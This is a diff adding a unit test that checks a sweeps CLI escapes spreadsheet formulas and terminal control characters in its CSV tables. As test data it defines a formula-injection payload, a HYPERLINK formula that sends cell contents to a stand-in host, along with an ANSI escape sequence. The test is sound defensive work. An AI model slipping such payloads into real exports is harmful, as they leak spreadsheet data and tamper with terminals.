@@ -12,6 +12,7 @@ from typer.testing import CliRunner
 
 from sweeps.cli import app
 from sweeps.errors import UserError
+from sweeps.operations.tables import write_tables
 from sweeps.results.trial_selection import select_rows, to_csv
 from tests.unit.sweeps.sweep_factory import MadeSweep
 
@@ -134,3 +135,27 @@ def test_trials_are_sorted_by_duration(sweep: MadeSweep) -> None:
     rows = list(csv.DictReader(io.StringIO(to_csv(sweep.view.rows(), sweep.spec))))
     assert (rows[6]["duration"], rows[4]["duration"], rows[4]["ended_at"]) == ("72.0", "", "")
     assert rows[6]["ended_at"]
+
+
+FORMULA = '=HYPERLINK("http://x/" & A1)'
+
+
+@pytest.mark.parametrize("command", ["trials", "export"])
+def test_no_cell_of_a_table_is_a_formula(tmp_path: Path, command: str) -> None:
+    """Numbers stay numbers, also in a column of texts."""
+    made = MadeSweep(
+        tmp_path, space=f"{{task.name_: {{choice: ['{FORMULA}', '-1.5', '@a']}}, {SPACE[1:]}"
+    )
+    for value in (FORMULA, "-1.5", "@a"):
+        params = {"train.optimizer.lr": 0.1, "task.max_norm": "small", "train.clip.max_norm": 2.0}
+        made.add("complete", -0.5, params={"task.name_": value, **params})
+    made.add("failed", reason="+1 \x1b[2J\r=2")
+    if command == "trials":
+        text = to_csv(made.view.rows(), made.spec)
+    else:
+        text = write_tables(made.view, tmp_path / "out", "csv")[0].read_text()
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [row["task.name_"] for row in rows[:3]] == [f"'{FORMULA}", "-1.5", "'@a"]
+    assert [float(row["val/loss"]) for row in rows[:3]] == [-0.5] * 3
+    assert rows[3]["reason"] == r"'+1 \x1b[2J\r=2"
+    assert text.replace("\n", "").isprintable()
